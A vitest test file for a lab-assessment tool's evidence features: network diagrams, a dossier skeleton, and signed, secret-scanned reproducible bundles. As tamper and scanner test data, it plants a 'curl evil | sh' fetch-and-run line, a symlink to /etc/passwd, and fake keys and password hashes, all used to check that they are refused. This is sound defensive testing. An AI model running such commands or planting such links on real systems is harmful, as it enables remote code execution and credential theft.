// The evidence for the candidate's file and for examiners: architecture diagram, dossier skeleton,
// reproducible bundles (checksums, versions, secret scan) and `reproduce --dry-run`.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { execa } from 'execa';
import { describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../src/core/repo.ts';
import { planCandidate } from '../src/targets/local/plan.ts';
import {
  BundleError,
  bundleFiles,
  candidateCohort,
  MANIFEST,
  openBundle,
  packageDiff,
  secretFindings,
  sha256,
  versionCompatible,
  writeBundle,
  type BundleInput,
} from '../src/evidence/bundle.ts';
import { buildDiagram, candidateStates, renderDot, renderMermaid, renderWithDot } from '../src/evidence/diagram.ts';
import { PLACEHOLDER_MARK, toHtml, toMarkdown } from '../src/evidence/doc.ts';
import { dossierBlocks, significantArtifacts } from '../src/evidence/dossier.ts';
import { runVerify } from '../src/checks/run.ts';
import { cli, NOW } from './helpers.ts';
import { cohortOf, FAKE_CHECKS, serversOf, VERSION } from './report-fixtures.ts';

const tmp = mkdtempSync(join(tmpdir(), 'asd-evidence-'));

describe('architecture diagram', () => {
  const cohort = cohortOf();
  const servers = serversOf(cohort, (_c, s) => (s === 'db2' ? 'stopped' : 'running'));
  const d = buildDiagram(cohort, candidateStates(cohort, servers, 'alice'), 'en');
  const edge = (from: string, to: string) =>
    d.edges.filter((e) => e.from === `alice_${from}` && e.to === `alice_${to}`).map((e) => e.label);

  it("draws every server of the live state with its role, address and state, in the candidate's network", () => {
    expect(d.clusters).toHaveLength(1);
    expect(d.clusters[0]!.label).toBe(
      `alice (Alice Martin) — ${planCandidate(cohort, cohort.candidates[0]!).bridge} 10.98.0.0/24`,
    );
    expect(d.clusters[0]!.nodes.map((n) => `${n.name}/${n.role}/${n.address}/${n.state}`)).toEqual([
      'gateway/gateway/10.98.0.10/running',
      'app/app/10.98.0.11/running',
      'db1/db/10.98.0.12/running',
      'db2/db/10.98.0.13/stopped',
      'mon/mon/10.98.0.14/running',
    ]);
  });

  it('draws the flows the roles imply, one arrow per pair and kind, no self-loop', () => {
    expect(edge('app', 'db1')).toEqual(['PostgreSQL 5432']);
    expect(edge('db1', 'db2')).toEqual(['streaming replication 5432']);
    expect(edge('db1', 'mon')).toEqual(['backups pgBackRest TLS 8432', 'syslog TLS 6514']);
    expect(edge('mon', 'db2')).toEqual(['metrics node 9100, metrics postgres 9187']);
    // mon also scrapes the application's /metrics and probes its HTTPS page (src/core/flows.ts).
    expect(edge('mon', 'app')).toEqual(['metrics node 9100, metrics app 8080', 'HTTPS 443']);
    expect(edge('app', 'mon')).toEqual(['syslog TLS 6514']);
    expect(edge('mon', 'mon')).toEqual([]);
    expect(d.edges.filter((e) => e.from === 'controller' && e.kind === 'ssh').map((e) => e.to)).toEqual(
      ['gateway', 'app', 'db1', 'db2', 'mon'].map((s) => `alice_${s}`),
    );
    // Users reach the application; the trainers and the candidate the consoles of mon.
    expect(d.edges.filter((e) => e.from === 'controller' && e.kind !== 'ssh').map((e) => `${e.to}:${e.label}`)).toEqual([
      'alice_app:HTTP 80, HTTPS 443',
      'alice_mon:Prometheus 9090, Alertmanager 9093',
    ]);
  });

  it('follows the modules and the servers that exist: a tiny lab has only its own flows', () => {
    const tiny = cohortOf('servers:\n  - {name: app, role: app}\n  - {name: db1, role: db}\nmodules: {monitoring: false}\n');
    const t = buildDiagram(tiny, candidateStates(tiny, serversOf(tiny), 'bob'), 'en');
    expect(t.edges.map((e) => `${e.from}>${e.to}:${e.kind}`)).toEqual([
      'controller>bob_app:ssh',
      'controller>bob_db1:ssh',
      'controller>bob_app:web',
      'bob_app>bob_db1:sql',
    ]);
    const noData = cohortOf('modules: {data: false}\n');
    expect(
      buildDiagram(noData, candidateStates(noData, serversOf(noData)), 'en').edges.some(
        (e) => e.kind === 'sql' || e.kind === 'replication',
      ),
    ).toBe(false);
  });

  it('on AWS, SSH goes through the bastion', () => {
    const aws = cohortOf('target: aws\nexpires: 2026-12-31\nadmin: {cidrs: [203.0.113.0/24]}\n');
    const a = buildDiagram(aws, candidateStates(aws, serversOf(aws), 'alice'), 'en');
    const ssh = a.edges.filter((e) => e.kind === 'ssh').map((e) => `${e.from}>${e.to}`);
    expect(ssh).toEqual([
      'admin>alice_gateway',
      'alice_gateway>alice_app',
      'alice_gateway>alice_db1',
      'alice_gateway>alice_db2',
      'alice_gateway>alice_mon',
    ]);
    expect(a.outside[0]!.address).toBe('203.0.113.0/24');
  });

  it('Mermaid text has a subgraph per candidate, a node per server and an arrow per flow', () => {
    const m = renderMermaid(d);
    expect(m).toMatch(/^---\ntitle: asd-lab — cohort demo/);
    expect(m).toContain('flowchart LR');
    expect(m).toContain('subgraph net_alice["alice (Alice Martin)');
    expect(m).toContain('alice_db2("db2<br/>db · 10.98.0.13<br/>STOPPED")');
    expect(m).toContain('alice_app ==>|"PostgreSQL 5432"| alice_db1');
    expect(m).toContain('class alice_db2 stopped');
    expect(m.split('\n').filter((l) => /-->|==>|-\.->/.test(l))).toHaveLength(d.edges.length);
    const fr = buildDiagram(cohortOf(), candidateStates(cohortOf(), servers, 'alice'), 'fr');
    expect(renderMermaid(fr)).toContain('alice_db1 ==>|"réplication en flux 5432"| alice_db2');
    expect(renderMermaid(fr)).toContain('10.98.0.13<br/>ARRÊTÉ');
  });

  it('Graphviz renders the DOT to SVG and PNG (Debian package graphviz)', async () => {
    const which = await execa('sh', ['-c', 'command -v dot'], { reject: false });
    expect(which.exitCode, 'Graphviz is missing: apt-get install -y graphviz (listed in scripts/host-packages.txt)').toBe(0);
    const dot = renderDot(d, 'en');
    const svg = (await renderWithDot(dot, 'svg')).toString();
    for (const a of ['10.98.0.10', '10.98.0.11', '10.98.0.12', '10.98.0.13', '10.98.0.14', 'PostgreSQL 5432', 'STOPPED'])
      expect(svg).toContain(a);
    const png = await renderWithDot(dot, 'png');
    expect(png.subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a');
    mkdirSync(join(REPO_ROOT, 'test-artifacts'), { recursive: true });
    writeFileSync(join(REPO_ROOT, 'test-artifacts/diagram-reference.png'), png);
  });
});

describe('dossier skeleton', () => {
  const cohort = cohortOf();
  const reportP = runVerify(cohort, serversOf(cohort), { checks: FAKE_CHECKS, probe: async () => true, version: VERSION });
  const input = async (withVerify = true) => ({
    cohort,
    candidate: 'alice',
    servers: serversOf(cohort).get('alice')!,
    last: withVerify ? (await reportP).candidates[0] : undefined,
    version: VERSION,
    tools: { terraform: '1.11.4' },
    lang: 'en' as const,
    outDir: join(REPO_ROOT, 'dossier-alice'),
    diagramFile: 'diagram.svg',
  });

  it('follows the required plan, in order', async () => {
    const headings = dossierBlocks(await input())
      .filter((b) => b.kind === 'h' && b.level === 2)
      .map((b) => (b as { text: string }).text);
    expect(headings).toEqual([
      '1. Competencies covered',
      '2. Specification (cahier des charges)',
      '3. Technical specification',
      '4. Approach and tools',
      '5. The most significant scripts and configurations',
      '6. Research situation',
    ]);
  });

  it('never invents content: the specification and the research situation are placeholders only', async () => {
    const blocks = dossierBlocks(await input());
    const section = (n: string) => {
      const i = blocks.findIndex((b) => b.kind === 'h' && b.text.startsWith(n));
      const j = blocks.findIndex((b, k) => k > i && b.kind === 'h' && b.level === 2);
      return blocks.slice(i + 1, j < 0 ? undefined : j);
    };
    expect(section('2.').every((b) => b.kind === 'placeholder')).toBe(true);
    expect(section('6.').every((b) => b.kind === 'placeholder')).toBe(true);
    for (const n of ['1.', '3.', '4.', '5.'])
      expect(
        section(n).some((b) => b.kind === 'placeholder'),
        n,
      ).toBe(true);
    const md = toMarkdown(blocks);
    const html = toHtml('x', 'en', blocks);
    const count = (s: string) => s.split(`[${PLACEHOLDER_MARK}]`).length - 1;
    expect(count(md)).toBe(blocks.filter((b) => b.kind === 'placeholder').length);
    expect(count(html)).toBe(count(md));
    expect(count(md)).toBeGreaterThanOrEqual(9);
  });

  it('lists the competencies from the last verify, with the mandatory ones marked', async () => {
    const md = toMarkdown(dossierBlocks(await input()));
    expect(md).toMatch(/\| CP1 \| .* \| partly \| CP1\.1 \|/);
    expect(md).toMatch(/\| CP3 \| .* \| partly \| CP3\.2 \|/);
    expect(md).toMatch(/\| CP2 \* \| .* \| not yet \| - \|/);
    expect(md).toContain('![Architecture diagram](diagram.svg)');
    expect(md).toMatch(/\| db2 \| db \| 10\.98\.0\.13 \| running \|/);
    const failedAll = structuredClone((await reportP).candidates[1]!);
    failedAll.criteria.forEach((c) => {
      if (c.status === 'pass') c.status = 'fail';
    });
    expect(significantArtifacts(failedAll)).toEqual([]);
    expect(toMarkdown(dossierBlocks({ ...(await input()), last: failedAll }))).toContain(
      'No criterion has passed on the lab yet',
    );
    const none = toMarkdown(dossierBlocks(await input(false)));
    expect(none).toContain('No verify result is recorded');
    expect(none).toMatch(/\| CP1 \| .* \| unknown \(no verify result\) \|/);
  });

  it('selects significant artifacts for the passed criteria only, with links that resolve to real files', async () => {
    const last = (await reportP).candidates[0]!;
    const picked = significantArtifacts(last);
    expect(picked.length).toBeGreaterThan(0);
    for (const a of picked) {
      expect(['CP1.1', 'CP3.2']).toEqual(expect.arrayContaining(a.criteria));
      expect(existsSync(join(REPO_ROOT, a.path)), a.path).toBe(true);
    }
    expect(picked[0]!.kind).toBe('script'); // scripts first
    const md = toMarkdown(dossierBlocks(await input()));
    const link = /\]\((\.\.\/[^)]+)\)/.exec(md)![1]!;
    expect(existsSync(resolve(REPO_ROOT, 'dossier-alice', decodeURI(link)))).toBe(true);
    const withUrl = toMarkdown(dossierBlocks({ ...(await input()), repoUrl: 'https://git.example/asd-lab/' }));
    expect(withUrl).toContain(`](https://git.example/asd-lab/blob/${VERSION.commit}/scripts/`);
  });
});

describe('bundles', () => {
  const cohort = cohortOf();
  const state = join(tmp, 'state');
  mkdirSync(join(state, 'keys/demo'), { recursive: true });
  const privateKey =
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';
  writeFileSync(join(state, 'keys/demo/id_ed25519'), privateKey, { mode: 0o600 });
  writeFileSync(
    join(state, 'keys/demo/id_ed25519.pub'),
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAa8sJXno/Di+FUx4Vi9Racsw8Cb8wwwraQVNI2lCrB+ asd-lab@demo\n',
  );
  const reportP = runVerify(cohort, serversOf(cohort), { checks: FAKE_CHECKS, probe: async () => true, version: VERSION });
  const input = async (over: Partial<BundleInput> = {}): Promise<BundleInput> => ({
    cohort,
    candidate: 'carol',
    servers: serversOf(cohort).get('carol')!,
    stateDir: state,
    version: VERSION,
    tools: { node: '20.20.2', terraform: '1.11.4', 'ansible-core': '2.14.18' },
    image: { id: '5067f4d532eb', packages: 'openssh-server 1:9.2p1-2+deb12u5\npostgresql-15 15.14-0+deb12u1\n' },
    lastVerify: await reportP,
    diagram: { dot: 'digraph {}', mermaid: 'flowchart LR' },
    now: NOW,
    ...over,
  });
  const make = async (name: string, over: Partial<BundleInput> = {}) => {
    const files = bundleFiles(await input(over));
    return { files, ...(await writeBundle(files, join(tmp, name))) };
  };
  const extract = async (file: string) => {
    const dir = mkdtempSync(join(tmp, 'x-'));
    await execa('tar', ['-xzf', file, '-C', dir]);
    return dir;
  };
  const repack = async (dir: string, name: string) => {
    const out = join(tmp, name);
    await execa('tar', ['-czf', out, '-C', dir, ...readdirSync(dir)]);
    return out;
  };

  it('holds the cohort entry with the subnet pinned, versions, image, public keys, the verify report and a manifest', async () => {
    const b = await make('carol.tar.gz');
    expect([...b.files.keys()].sort()).toEqual([
      MANIFEST,
      'bundle.json',
      'cohort.yaml',
      'diagram.dot',
      'diagram.mmd',
      'image/packages.txt',
      'keys/candidate.pub',
      'keys/lab-key.pub',
      'verify-report.json',
    ]);
    const opened = await openBundle(b.file, VERSION, { now: NOW });
    expect(opened.manifestSha256).toBe(b.manifestSha256);
    expect(opened.meta).toMatchObject({
      cohort: 'demo',
      candidate: 'carol',
      asdLab: VERSION,
      image: { id: '5067f4d532eb', packages: 2 },
      tools: { terraform: '1.11.4' },
    });
    expect(opened.report!.candidates.map((c) => c.id)).toEqual(['carol']);
    // carol is the third candidate: alone in the bundle, she keeps her subnet and addresses.
    expect(opened.cohort.candidates.map((c) => c.id)).toEqual(['carol']);
    const before = planCandidate(cohort, cohort.candidates[2]!);
    const after = planCandidate(opened.cohort, opened.cohort.candidates[0]!);
    expect(after.subnet).toBe(before.subnet);
    expect(after.servers.map((s) => s.ip)).toEqual(before.servers.map((s) => s.ip));
    // the same input gives the same archive (sorted, fixed owner and time)
    const again = await make('carol2.tar.gz');
    expect(sha256(readFileSync(again.file))).toBe(sha256(readFileSync(b.file)));
  });

  it('carries no private key and no secret: the whole archive is scanned', async () => {
    const b = await make('scan.tar.gz');
    const dir = await extract(b.file);
    const files = new Map<string, Buffer>();
    const walk = (d: string, rel = ''): void => {
      for (const e of readdirSync(d, { withFileTypes: true })) {
        if (e.isDirectory()) walk(join(d, e.name), `${rel}${e.name}/`);
        else files.set(`${rel}${e.name}`, readFileSync(join(d, e.name)));
      }
    };
    walk(dir);
    expect(files.size).toBe(9);
    expect(secretFindings(files)).toEqual([]);
    const all = Buffer.concat([...files.values()]).toString();
    expect(all).not.toContain('PRIVATE KEY');
    expect(all).not.toContain('b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ');
    expect([...files.keys()].some((p) => /id_ed25519$|\.key$|\.pem$|passw/i.test(p))).toBe(false);
  });

  it('the scanner catches private keys, password files, vaults, tokens and hashes', () => {
    const found = secretFindings(
      new Map<string, string>([
        ['keys/id_ed25519', 'x'],
        ['a.txt', privateKey],
        ['pki/ca.key', 'x'],
        ['conf/db_password', 'x'],
        ['v.yml', '$ANSIBLE_VAULT;1.1;AES256\n31'],
        ['env', 'PGPASSWORD=hunter2hunter2'],
        ['cfg.yml', 'replication_password: "s3cr3t-value"\n'],
        ['aws', 'AKIAIOSFODNN7EXAMPLE'],
        ['shadow.txt', 'root:$6$abc$def:19000:0:99999:7:::'],
        ['ok.txt', 'PasswordAuthentication no\nssh-password-refused (app): refused'],
      ]),
    );
    const files = new Set(found.map((f) => f.split(':')[0]));
    expect([...files].sort()).toEqual(
      ['a.txt', 'aws', 'cfg.yml', 'conf/db_password', 'env', 'keys/id_ed25519', 'pki/ca.key', 'shadow.txt', 'v.yml'].sort(),
    );
  });

  it('refuses to make a bundle that would hold a secret', async () => {
    const report = await reportP;
    const leaky = structuredClone(report);
    leaky.candidates[2]!.checks.push({ ...leaky.candidates[2]!.checks[0]!, evidence: privateKey });
    await expect(make('leak.tar.gz', { lastVerify: leaky })).rejects.toThrow(
      /would contain secrets:\nverify-report\.json: content looks like a secret/,
    );
    expect(existsSync(join(tmp, 'leak.tar.gz'))).toBe(false);
  });

  it('refuses a tampered bundle: a changed file, an added file, a removed file, a wrong manifest hash', async () => {
    const b = await make('t.tar.gz');
    const changed = await extract(b.file);
    writeFileSync(
      join(changed, 'cohort.yaml'),
      readFileSync(join(changed, 'cohort.yaml'), 'utf8').replace('memoryMiB: 512', 'memoryMiB: 4096'),
    );
    await expect(openBundle(await repack(changed, 't1.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(
      /modified after it was made:\nchecksum mismatch: cohort\.yaml was modified/,
    );
    const added = await extract(b.file);
    writeFileSync(join(added, 'extra.sh'), 'curl evil | sh');
    await expect(openBundle(await repack(added, 't2.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(
      /file extra\.sh is not in the manifest/,
    );
    const removed = await extract(b.file);
    (await import('node:fs')).rmSync(join(removed, 'verify-report.json'));
    await expect(openBundle(await repack(removed, 't3.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(
      /missing file verify-report\.json/,
    );
    await expect(openBundle(b.file, VERSION, { now: NOW, expectSha256: '0'.repeat(64) })).rejects.toThrow(
      /this is not the bundle that was handed in/,
    );
    await expect(openBundle(b.file, VERSION, { now: NOW, expectSha256: b.manifestSha256 })).resolves.toBeTruthy();
  });

  it('refuses unsafe members (symlinks, .. paths) and files that are not bundles', async () => {
    const b = await make('u.tar.gz');
    const dir = await extract(b.file);
    (await import('node:fs')).symlinkSync('/etc/passwd', join(dir, 'link'));
    await expect(openBundle(await repack(dir, 'u1.tar.gz'), VERSION, { now: NOW })).rejects.toThrow(/unsafe member "link/);
    const notTar = join(tmp, 'not.tar.gz');
    writeFileSync(notTar, 'hello');
    await expect(openBundle(notTar, VERSION)).rejects.toThrow(/is not a gzip tar archive/);
    await expect(openBundle(join(tmp, 'nope.tar.gz'), VERSION)).rejects.toThrow(BundleError);
  });

  it('refuses a bundle from an incompatible version, accepts another commit of the same version with a warning', async () => {
    expect(versionCompatible('0.1.0', '0.1.7')).toBe(true);
    expect(versionCompatible('0.2.0', '0.1.0')).toBe(false);
    expect(versionCompatible('1.4.0', '1.0.0')).toBe(true);
    expect(versionCompatible('2.0.0', '1.0.0')).toBe(false);
    expect(versionCompatible('garbage', '1.0.0')).toBe(false);
    const future = await make('future.tar.gz', { version: { ...VERSION, version: '0.9.0' } });
    await expect(openBundle(future.file, VERSION, { now: NOW })).rejects.toThrow(
      /made by asd-lab 0\.9\.0, incompatible with this asd-lab 0\.1\.0/,
    );
    const other = await openBundle(
      (await make('other.tar.gz', { version: { ...VERSION, commit: 'f'.repeat(40) } })).file,
      VERSION,
      { now: NOW },
    );
    expect(other.warnings).toEqual([expect.stringContaining('made at commit ffffffffffff')]);
  });

  it('compares the golden image package lists', () => {
    expect(packageDiff('a 1\nb 2\nc 3\n', 'a 1\nb 2.1\nd 4\n')).toEqual({
      changed: ['b 2 -> 2.1'],
      missing: ['c'],
      extra: ['d'],
    });
  });

  it('the candidate cohort refuses an unknown candidate', () => {
    expect(() => candidateCohort(cohort, 'zoe')).toThrow(/no candidate "zoe"/);
  });

  it('reproduce --dry-run checks the bundle and tells what it would build; a tampered bundle is refused in fr and en', async () => {
    // A bundle made by this checkout (real version and commit) so that it is compatible.
    const { toolVersion } = await import('../src/evidence/version.ts');
    const b = await make('cli.tar.gz', { version: await toolVersion(), now: new Date() });
    const env = { ASD_LAB_STATE: join(tmp, 'state-cli') };
    const r = await cli(['reproduce', b.file, '--dry-run'], env);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`checksums verified (manifest SHA-256 ${b.manifestSha256})`);
    expect(r.stdout).toMatch(/would build: network asd-\w+-0 \(10\.98\.2\.0\/24\) and these servers:/);
    expect(r.stdout).toMatch(/db2 +db +10\.98\.2\.13 +512 MiB/);
    expect(r.stdout).toContain('dry run: nothing was built');
    expect(existsSync(join(tmp, 'state-cli/cohorts'))).toBe(false);
    const dir = await extract(b.file);
    writeFileSync(
      join(dir, 'keys/candidate.pub'),
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAa8sJXno/Di+FUx4Vi9Racsw8Cb8wwwraQVNI2lCrB+ mallory\n',
    );
    const bad = await repack(dir, 'cli-bad.tar.gz');
    const en = await cli(['reproduce', bad, '--dry-run'], env);
    expect(en.code).toBe(1);
    expect(en.stderr).toContain(`bundle ${bad} refused: the bundle was modified after it was made:`);
    expect(en.stderr).toContain('checksum mismatch: keys/candidate.pub was modified');
    const aws = cohortOf('target: aws\nexpires: 2099-12-31\nadmin: {cidrs: [203.0.113.0/24]}\n');
    const awsBundle = await writeBundle(
      bundleFiles({ ...(await input()), cohort: aws, version: await toolVersion(), now: new Date() }),
      join(tmp, 'aws.tar.gz'),
    );
    const awsRun = await cli(['reproduce', awsBundle.file], env);
    expect(awsRun.code).toBe(2);
    expect(awsRun.stderr).toContain('the cohort targets aws');
    expect(existsSync(join(tmp, 'state-cli/cohorts'))).toBe(false);
    const fr = await cli(['--lang', 'fr', 'reproduce', bad, '--dry-run'], env);
    expect(fr.code).toBe(1);
    expect(fr.stderr).toContain("refusée : l'archive a été modifiée après sa création");
  });
});
